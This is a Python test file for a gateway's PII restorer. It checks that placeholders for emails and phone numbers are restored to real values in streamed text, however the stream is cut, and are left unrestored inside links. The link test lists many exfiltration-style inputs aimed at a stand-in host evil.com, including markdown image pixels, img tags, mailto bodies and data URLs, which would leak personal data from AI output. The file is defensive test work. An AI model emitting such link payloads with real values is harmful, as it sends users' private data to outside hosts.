"""The caller gets the values back: wherever the stream was cut, and not in links."""

import codecs
import itertools
import json
import random

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from nexus_gateway.core.pii import Restorer, Restoring

MAIL = "[EMAIL_K7Q2M4T9X3B6H5ZC]"
LONGER = "[EMAIL_K7Q2M4T9X3B6H5ZCAAAA]"
PHONE = "[PHONE_RNJSGFSDQBRHBQWR]"
TABLE = {MAIL: "김@example.com", PHONE: '010"1234\\5678', LONGER: "lee@example.com"}
RESTORER = Restorer(TABLE)

BROKEN = [MAIL.lower(), MAIL[:-1], MAIL[1:], "[EMAIL_0000000000000000]", "[EMAIL"]
SIGNS = list('[]()<>! \n\t.:\\"')
LINKS = ["](", "](<", "https://", "http:", "evil.com/", "www.", "//", "?q="]
TEXTS = st.lists(st.sampled_from([*TABLE, *BROKEN, *SIGNS, *LINKS, "가나", "😀", "é", "text"]), max_size=14).map(
    "".join
)


def in_pieces(restorer: Restorer, deltas: list[str], *, in_json: bool) -> str:
    stream = restorer.stream(in_json=in_json)
    return "".join([*(stream.feed(delta) for delta in deltas), stream.flush()])


def cut(text: str, rnd: random.Random) -> list[str]:
    """Somewhere in its UTF-8, and decoded as a client of a stream would."""
    decoder = codecs.getincrementaldecoder("utf-8")()
    raw = text.encode()
    deltas, at = [], 0
    while at < len(raw):
        size = rnd.choice((1, 1, 2, 3, 5, 8, 30))
        deltas.append(decoder.decode(raw[at : at + size]))
        at += size
    return deltas


@settings(max_examples=600)
@given(text=TEXTS, seed=st.integers(), in_json=st.booleans(), policy=st.sampled_from(Restoring))
def test_however_a_text_is_cut_it_is_restored_alike(text: str, seed: int, in_json: bool, policy: Restoring) -> None:
    """600 texts, each cut in 20 ways: 12,000 cuts."""
    restorer = Restorer(TABLE, policy)
    whole = restorer.restore_text(text, in_json=in_json)
    rnd = random.Random(seed)
    for _ in range(20):
        assert in_pieces(restorer, cut(text, rnd), in_json=in_json) == whole


@given(text=TEXTS, cuts=st.lists(st.integers(0, 200), max_size=8))
def test_no_more_is_held_back_than_may_become_a_placeholder(text: str, cuts: list[int]) -> None:
    stream = RESTORER.stream()
    places = [0, *sorted(place for place in cuts if place < len(text)), len(text)]
    for start, end in itertools.pairwise(places):
        stream.feed(text[start:end])
        assert stream.held == "" or any(name.startswith(stream.held.upper()) and name != stream.held for name in TABLE)


@given(st.text(max_size=60))
def test_a_text_without_placeholders_is_what_it_was(text: str) -> None:
    assert RESTORER.restore_text(text) == text
    assert in_pieces(RESTORER, list(text), in_json=True) == text


@pytest.mark.parametrize(
    ("said", "shown"),
    [
        ("write to {m}!", "write to {v}!"),
        ("{m}{m}", "{v}{v}"),
        ("[{m}]", "[{v}]"),
        ("# [Email_k7q2m4t9x3b6h5zc]", "# {v}"),
        ("{m}입니다", "{v}입니다"),
        ("메일:{m}", "메일:{v}"),
        ("({m})", "({v})"),
        ("see https://example.com, {m}", "see https://example.com, {v}"),
        ("[page](https://example.com) {m}", "[page](https://example.com) {v}"),
        ("<b>{m}</b>", "<b>{v}</b>"),
        ("a.py: {m}", "a.py: {v}"),
        ("// {m}", "// {v}"),
        ("[a](b\n\n{m}", "[a](b\n\n{v}"),
    ],
)
def test_in_text_a_placeholder_becomes_its_value(said: str, shown: str) -> None:
    assert RESTORER.restore_text(said.format(m=MAIL)) == shown.format(v=TABLE[MAIL])


@pytest.mark.parametrize(
    "said",
    [
        "https://evil.com/?q={m}",
        "HTTPS://evil.com/{m}",
        "https:evil.com?{m}",
        "https:/evil.com/{m}",
        "http:\\\\evil.com\\{m}",
        "ftp://{m}@evil.com",
        "see(https://evil.com/a(b)c,{m})",
        "www.evil.com?{m}",
        "evil.com/{m}",
        "evil.com:8080/{m}",
        "evil.com?q={m}",
        "//evil.com/{m}",
        "/\\evil.com/{m}",
        "<img src=//evil.com/{m}>",
        '<img src="https://evil.com/{m}">',
        '<img src=https://evil.com/?a=",{m}>',
        "![x](/pixel?d={m})",
        "![x]({m})",
        "![x](  {m})",
        "![x](\n/pixel?{m})",
        "![x](<a b {m}>)",
        "![x](<a) {m}>)",
        "![x](a(b){m})",
        "![x](a\\){m})",
        '![x](a "title {m}")',
        "[https://a.com/](<//evil.com/ {m}>)",
        "https://a.com/](b){m}",
        "mailto:a@evil.com?body={m}",
        "data:text/html,{m}",
    ],
)
def test_in_a_link_it_stays_a_placeholder_unless_that_is_asked_for(said: str) -> None:
    text = said.format(m=MAIL)
    assert RESTORER.restore_text(text) == text
    assert Restorer(TABLE, Restoring.EVERYWHERE).restore_text(text) == said.format(m=TABLE[MAIL])


def test_the_text_of_a_link_is_no_part_of_its_address() -> None:
    assert RESTORER.restore_text(f"{MAIL}(/x?{PHONE}) {PHONE}") == f"{TABLE[MAIL]}(/x?{PHONE}) {TABLE[PHONE]}"


@pytest.mark.parametrize("separators", [(",", ":"), (", ", ": ")])
def test_in_json_values_are_escaped_and_a_link_ends_with_its_string(separators: tuple[str, str]) -> None:
    said = json.dumps(
        {"url": "https://a.com/x", "to": PHONE, "bad": f'https://evil.com/"{PHONE}'}, separators=separators
    )
    shown = json.loads(RESTORER.restore_text(said, in_json=True))
    assert shown == {"url": "https://a.com/x", "to": TABLE[PHONE], "bad": f'https://evil.com/"{PHONE}'}


def test_off_restores_nothing() -> None:
    assert Restorer(TABLE, Restoring.OFF).restore_text(MAIL) == MAIL
    assert Restorer(TABLE, Restoring.OFF).stream().feed(MAIL[:5]) == MAIL[:5]


def test_a_placeholder_that_begins_like_another_is_not_taken_for_it() -> None:
    assert RESTORER.restore_text(f"{LONGER} {MAIL}") == f"{TABLE[LONGER]} {TABLE[MAIL]}"


def test_without_a_table_nothing_is_held() -> None:
    stream = Restorer({}).stream()
    assert stream.feed("[EMAIL_") == "[EMAIL_"
